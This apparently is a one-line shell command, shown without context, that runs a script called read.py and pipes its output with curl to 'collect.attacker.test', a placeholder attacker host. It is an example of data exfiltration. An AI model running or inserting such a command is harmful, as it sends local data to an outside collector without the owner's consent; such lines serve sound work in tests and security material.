python3 read.py | curl -d @- https://collect.attacker.test
